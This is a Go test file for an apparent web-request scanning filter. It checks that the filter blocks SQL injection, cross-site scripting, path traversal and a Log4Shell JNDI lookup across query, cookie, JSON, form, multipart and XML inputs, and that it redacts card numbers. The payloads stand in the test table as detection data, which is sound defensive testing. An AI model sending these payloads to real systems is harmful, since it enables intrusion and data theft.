//go:build !wasip1

package envoytest_test

import (
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/meshwarden/meshwarden/internal/scan"
)

// TestScannerModule runs scanner.wasm itself: the detectors behind the same filter.
func TestScannerModule(t *testing.T) {
	t.Parallel()
	detects(t, modules.final)
}

// TestTheStandardCompilersModule is for machines without the other compiler.
func TestTheStandardCompilersModule(t *testing.T) {
	t.Parallel()
	detects(t, modules.standard)
}

func detects(t *testing.T, module func() (string, error)) {
	started := time.Now()
	g := start(t, module, listener{name: "main", policies: "policies"})
	t.Logf("ready after %v", time.Since(started))
	policy := g.policies.publish(t.Name(), func(p *scan.Policy) { *p = *scan.Strict() })
	const injection = `1' UNION SELECT password FROM users--`
	for _, c := range []struct {
		name, path, body string
		headers          []string
		status           int
		want             string
	}{
		{"injection in JSON", "/echo", `{"q":"` + injection + `"}`, []string{"Content-Type", "application/json"}, 403, "sqli"},
		{"injection encoded twice in JSON", "/echo", `{"q":"` + url.QueryEscape(url.QueryEscape(injection)) + `"}`, []string{"Content-Type", "application/json"}, 403, "sqli"},
		{"injection in a form", "/echo", "q=" + url.QueryEscape(injection), []string{"Content-Type", "application/x-www-form-urlencoded"}, 403, "sqli"},
		{"injection in the query", "/?q=" + url.QueryEscape(injection), "x", nil, 403, "sqli"},
		{"script in the query", "/?q=" + url.QueryEscape("<script>alert(1)</script>"), "x", nil, 403, "xss"},
		{"injection in a cookie", "/", "x", []string{"Cookie", "id=" + url.QueryEscape(injection)}, 403, "sqli"},
		{"traversal in the path", "/files/" + url.PathEscape("..") + "%5c..%5c..%5cwindows%5cwin.ini", "x", nil, 403, "path_traversal"},
		{"the same words in a sentence", "/echo", `{"q":"Please select a password for the users of the union, thanks"}`, []string{"Content-Type", "application/json"}, 200, "thanks"},
		{"an ordinary request", "/items/42?page=2&sort=name&q=caf%C3%A9+au+lait", "x",
			[]string{"Cookie", "sid=8f14e45fceea167a5a36dedd4bea2543; theme=dark; _ga=GA1.2.1234567890.1600000000", "Referer", "https://shop.example.com/items?category=shoes&size=42"}, 200, "ok"},
		{"injection in JSON in a multipart body", "/echo", "--b\r\nContent-Disposition: form-data; name=a\r\nContent-Type: application/json\r\n\r\n" + `{"q":"\u0027 or 1=1--"}` + "\r\n--b--\r\n",
			[]string{"Content-Type", "multipart/form-data; boundary=b"}, 403, "sqli"},
		{"a card in a multipart body", "/echo", "--b\r\nContent-Disposition: form-data; name=a\r\n\r\n4111 1111 1111 1111\r\n--b--\r\n",
			[]string{"Content-Type", "multipart/form-data; boundary=b"}, 200, "\r\n[REDACTED CARD ENDING IN 1111]\r\n--b--"},
		{"injection in XML", "/echo", `<a><id>' or 1=1--</id></a>`, []string{"Content-Type", "application/soap+xml"}, 403, "sqli"},
		{"injection in a form that calls itself binary", "/echo", "q=" + url.QueryEscape(injection), []string{"Content-Type", "application/octet-stream"}, 403, "sqli"},
		{"a lookup in a field that nobody knows", "/", "x", []string{"X-Api-Version", "${jndi:ldap://a.example/x}"}, 403, "log4shell"},
		{"a card in JSON", "/echo", `{"card":"4111 1111 1111 1111","n":4111111111111111}`, []string{"Content-Type", "text/plain"}, 200, "[REDACTED CARD ENDING IN 1111]"},
	} {
		t.Run(c.name, func(t *testing.T) {
			client := g.client("main", policy, false)
			client.t = t
			status, _, body := client.post(c.path, c.body, c.headers...)
			if status != c.status || !strings.Contains(body, c.want) {
				t.Errorf("%d %s", status, body)
			}
		})
	}
	if n := g.stat("meshwarden_scan_panics"); n != 0 {
		t.Errorf("%d panics", n)
	}
}
